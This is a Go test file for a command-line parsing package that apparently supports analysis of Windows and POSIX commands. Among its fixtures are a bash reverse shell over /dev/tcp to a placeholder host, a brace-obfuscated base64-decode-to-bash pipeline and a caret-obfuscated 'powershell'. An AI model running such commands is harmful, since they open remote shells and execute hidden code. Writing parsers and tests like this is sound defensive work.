package cmdline

import (
	"reflect"
	"testing"
)

func TestSplitWindows(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`"a b c" d e`, []string{"a b c", "d", "e"}},
		{`prog "ab\"c" "\\" d`, []string{"prog", `ab"c`, `\`, "d"}},
		{`prog a\\\"b c d`, []string{"prog", `a\"b`, "c", "d"}},
		{`prog a\\\\"b c" d e`, []string{"prog", `a\\b c`, "d", "e"}},
		{`prog a\b\c "x"`, []string{"prog", `a\b\c`, "x"}},
		{`"C:\Program Files\x.exe" -a  -b`, []string{`C:\Program Files\x.exe`, "-a", "-b"}},
		{`prog "a""b"`, []string{"prog", `a"b`}},
		{`C:\dir\prog.exe "unterminated arg`, []string{`C:\dir\prog.exe`, "unterminated arg"}},
		{`  `, nil},
		{`"C:\a b\x"y z`, []string{`C:\a b\xy`, "z"}},
	}
	for _, tt := range tests {
		if got := SplitWindows(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("SplitWindows(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestUnescapeCaret(t *testing.T) {
	tests := map[string]string{
		`p^o^w^e^r^s^h^e^l^l`: "powershell",
		`echo "a^b" ^& x`:     `echo "a^b" & x`,
		`x^`:                  "x",
		`a^^b`:                "a^b",
		`plain`:               "plain",
	}
	for in, want := range tests {
		if got := UnescapeCaret(in); got != want {
			t.Errorf("UnescapeCaret(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSplitCmdOperators(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`a & b && c | d || e`, []string{"a", "b", "c", "d", "e"}},
		{`echo "a&b" & x`, []string{`echo "a&b"`, "x"}},
		{`x.exe 1> out.txt 2>&1`, []string{`x.exe 1> out.txt 2>&1`}},
		{``, nil},
	}
	for _, tt := range tests {
		if got := SplitCmdOperators(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("SplitCmdOperators(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestSplitPOSIX(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`{echo,aGk=}|{base64,-d}|{bash,-i}`, []string{"echo", "aGk=", "|", "base64", "-d", "|", "bash", "-i"}},
		{`echo 'a b' "c \"d\"" e\ f`, []string{"echo", "a b", `c "d"`, "e f"}},
		{`cmd 2>&1 && next; last &`, []string{"cmd", "2>&1", "&&", "next", ";", "last", "&"}},
		{`echo '{a,b}' {c,d}`, []string{"echo", "{a,b}", "c", "d"}},
		{`bash -i >& /dev/tcp/h/1 0>&1`, []string{"bash", "-i", ">&", "/dev/tcp/h/1", "0>&1"}},
		{`echo 'unterminated`, []string{"echo", "unterminated"}},
	}
	for _, tt := range tests {
		if got := SplitPOSIX(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("SplitPOSIX(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	cmds := SplitCommands(SplitPOSIX(`a b | c ; d`))
	if want := [][]string{{"a", "b"}, {"c"}, {"d"}}; !reflect.DeepEqual(cmds, want) {
		t.Errorf("SplitCommands = %q, want %q", cmds, want)
	}
}

func TestExpandBraces(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`{a,b}`, []string{"a", "b"}},
		{`x{a,b}y`, []string{"xay", "xby"}},
		{`{1..3}`, []string{"{1..3}"}},
		{`{a}`, []string{"{a}"}},
		{`{a,{b,c}}`, []string{"a", "{b,c}"}},
		{`{unclosed,`, []string{"{unclosed,"}},
	}
	for _, tt := range tests {
		if got := ExpandBraces(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("ExpandBraces(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHasBraceExpansion(t *testing.T) {
	tests := map[string]bool{
		`{echo,aGk=}|{base64,-d}`: true,
		`cat {a,b}.txt`:           true,
		`echo "{a,b}"`:            false,
		`echo '{a,b}'`:            false,
		`awk '{print $1}'`:        false,
		`echo {single}`:           false,
	}
	for in, want := range tests {
		if got := HasBraceExpansion(in); got != want {
			t.Errorf("HasBraceExpansion(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestRestAfterArgsAndBaseName(t *testing.T) {
	if got := RestAfterArgs(`cmd.exe /c "x y" z`, 2); got != `"x y" z` {
		t.Errorf("RestAfterArgs = %q", got)
	}
	if got := RestAfterArgs(`"C:\a b\p.exe"  -x`, 1); got != `-x` {
		t.Errorf("RestAfterArgs = %q", got)
	}
	for in, want := range map[string]string{
		`"C:\Windows\System32\CMD.EXE"`: "cmd.exe",
		`/usr/bin/bash`:                 "bash",
		`powershell`:                    "powershell",
		``:                              "",
	} {
		if got := BaseName(in); got != want {
			t.Errorf("BaseName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCleanPath(t *testing.T) {
	tests := []struct{ in, want string }{
		{`C:\Windows\\system32\\certutil.exe`, `C:\Windows\system32\certutil.exe`},
		{`C:\\Windows\\System32\\cmd.exe`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\\\\system32\cmd.exe`, `C:\Windows\system32\cmd.exe`},
		{`\\server\share\\tools\x.exe`, `\\server\share\tools\x.exe`},
		{`\\\\server\\share\\x.exe`, `\\server\share\x.exe`},
		{`\\?\C:\\Windows\\x.exe`, `\\?\C:\Windows\x.exe`},
		{`\\?\C:\Windows\x.exe`, `\\?\C:\Windows\x.exe`},
		{`\??\C:\Windows\\system32\\conhost.exe`, `\??\C:\Windows\system32\conhost.exe`},
		{`\\.\pipe\\x`, `\\.\pipe\x`},
		{`\Device\HarddiskVolume2\\Windows\x.exe`, `\Device\HarddiskVolume2\Windows\x.exe`},
		{`C:\dir\\`, `C:\dir\`},
		{`/usr/bin//bash`, `/usr/bin//bash`},
		{``, ``},
		{`\`, `\`},
		{`\\`, `\\`},
		{`\\\`, `\\`},
	}
	for _, tt := range tests {
		if got := CleanPath(tt.in); got != tt.want {
			t.Errorf("CleanPath(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
